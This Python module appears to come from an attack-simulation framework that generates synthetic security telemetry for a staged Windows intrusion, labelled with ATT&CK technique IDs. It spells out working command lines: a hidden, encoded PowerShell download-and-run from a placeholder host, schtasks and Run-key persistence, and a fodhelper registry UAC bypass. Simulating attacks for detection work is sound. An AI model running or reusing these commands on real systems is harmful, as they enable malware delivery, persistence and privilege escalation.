"""How the intruder comes in and stays: a mail attachment, a downloaded implant, persistence, its calls home."""

from base64 import b64encode
from random import Random

from vedette.simulation.actors.desk import Desk, remember_document
from vedette.simulation.actors.intrusion.keyboard import Keyboard
from vedette.simulation.actors.office import open_mail
from vedette.simulation.telemetry.changes import register_task, run_script_block
from vedette.simulation.telemetry.network import Endpoint, reach
from vedette.simulation.telemetry.objects import create_file, create_key, load_module, set_value
from vedette.simulation.telemetry.processes import end, run, start
from vedette.simulation.world import Process, Session, World

STAGING_SITE = Endpoint("cdn.parcel-status.example", "203.0.113.24", 80)
CONTROL = Endpoint("api.parcel-status.example", "203.0.113.57", 443)
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\"


def open_attachment(world: World, desk: Desk, at: float) -> Process:
    """The user opens a document from the mail, and allows its macro. Gives the word processor."""
    name = "Delivery note 88213.docm"
    path = f"{desk.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7QX2M1P\\{name}"
    mail = open_mail(world, desk, at)
    with world.step("A macro document comes by mail and is opened", "initial-access", "T1566.001", "T1204.002"):
        create_file(world, mail, path, at + 14)
        word = start(world, mail, "WINWORD.EXE", f'"{_OFFICE}Office16\\WINWORD.EXE" /n "{path}" /o ""', at + 21)
        remember_document(world, word, desk, name, at + 23)
        load_module(
            world, word, f"{_OFFICE}vfs\\ProgramFilesCommonX64\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL", at + 27
        )
        load_module(world, word, "C:\\Windows\\System32\\wbem\\wbemdisp.dll", at + 28)
        key = "SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords"
        set_value(world, word, f"HKU\\{desk.session.account.sid}\\{key}\\{path}", "Binary Data", at + 31)
    return word


def download_implant(world: World, word: Process, at: float) -> Process:
    """The macro starts an encoded PowerShell, which fetches a program and starts it. Gives the implant."""
    home = word.session.account.home
    implant = f"{home}\\AppData\\Roaming\\ParcelView\\parcelview.exe"
    script = (
        f"$c = New-Object Net.WebClient; $c.DownloadFile('http://{STAGING_SITE.name}/v/pv.bin', '{implant}'); "
        f"Start-Process '{implant}'"
    )
    encoded = b64encode(script.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoP -W Hidden -Enc {encoded}"
    with world.step("Word starts an encoded PowerShell", "execution", "T1059.001", "T1027.010"):
        shell = start(world, word, "powershell.exe", command, at)
        run(
            world,
            shell,
            "conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            at + 0.1,
            seconds=9,
        )
        run_script_block(world, shell, script, at + 0.9)
    with world.step("PowerShell downloads a program into the profile", "command-and-control", "T1105"):
        reach(world, shell, STAGING_SITE, at + 1.4)
        create_file(world, shell, implant, at + 3.1)
    with world.step("The downloaded program runs and calls home", "command-and-control", "T1204.002", "T1071.001"):
        program = start(world, shell, implant, f'"{implant}"', at + 4)
        load_module(world, program, implant, at + 4.1, signed=False)
        reach(world, program, CONTROL, at + 6)
        end(world, shell, at + 9)
    return program


def call_home(world: World, implant: Process, start_at: float, end_at: float, chance: Random) -> None:
    """The implant asks for orders every few minutes."""
    with world.step("The implant asks for orders", "command-and-control", "T1071.001", "T1029"):
        at = start_at
        while at < end_at:
            reach(world, implant, CONTROL, at)
            at += 240 * chance.uniform(0.8, 1.2)


def persist(keyboard: Keyboard, implant: Process) -> None:
    """A scheduled task, then a Run key in case the task is found."""
    world, account = keyboard.world, keyboard.session.account
    with world.step("A scheduled task starts the implant at logon", "persistence", "T1053.005"):
        command = f'schtasks /create /tn "Parcel Tracker" /tr "{implant.image}" /sc onlogon /f'
        task = keyboard.type("schtasks.exe", command)
        register_task(world, keyboard.device, keyboard.session, "\\Parcel Tracker", implant.image, keyboard.at)
        service = keyboard.device.residents["svchost.exe"]
        create_file(world, service, "C:\\Windows\\System32\\Tasks\\Parcel Tracker", keyboard.at + 0.1)
        load_module(world, task, "C:\\Windows\\System32\\taskschd.dll", keyboard.at - 0.2)
    with world.step("A Run key starts the implant at logon", "persistence", "T1547.001"):
        run_key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        command = f'reg add HKCU\\{run_key} /v ParcelView /t REG_SZ /d "{implant.image}" /f'
        registry = keyboard.type("reg.exe", command)
        set_value(world, registry, f"HKU\\{account.sid}\\{run_key}\\ParcelView", implant.image, keyboard.at - 0.2)


def elevate(keyboard: Keyboard, implant: Process) -> Process:
    """Misuse an auto-elevating program by the shell's association key. Gives the implant at high integrity."""
    world, session = keyboard.world, keyboard.session
    key = "Software\\Classes\\ms-settings\\shell\\open\\command"
    hive = f"HKU\\{session.account.sid}_Classes\\ms-settings\\shell\\open\\command"
    elevated = Session(session.account, keyboard.device.next_logon_id(), session.terminal, "High", keyboard.at)
    with world.step("User account control is passed by an association key", "privilege-escalation", "T1548.002"):
        first = keyboard.type("reg.exe", f'reg add HKCU\\{key} /ve /t REG_SZ /d "{implant.image}" /f')
        create_key(world, first, hive, keyboard.at - 0.3)
        set_value(world, first, f"{hive}\\(Default)", implant.image, keyboard.at - 0.2)
        second = keyboard.type("reg.exe", f'reg add HKCU\\{key} /v DelegateExecute /t REG_SZ /d "" /f')
        set_value(world, second, f"{hive}\\DelegateExecute", "(Empty)", keyboard.at - 0.2)
        at = keyboard.think()
        helper = start(world, keyboard.shell, "fodhelper.exe", "fodhelper.exe", at, session=elevated)
        stronger = start(world, helper, implant.image, f'"{implant.image}"', at + 1.2)
        end(world, helper, at + 3)
        keyboard.type("reg.exe", "reg delete HKCU\\Software\\Classes\\ms-settings /f")
    return stronger
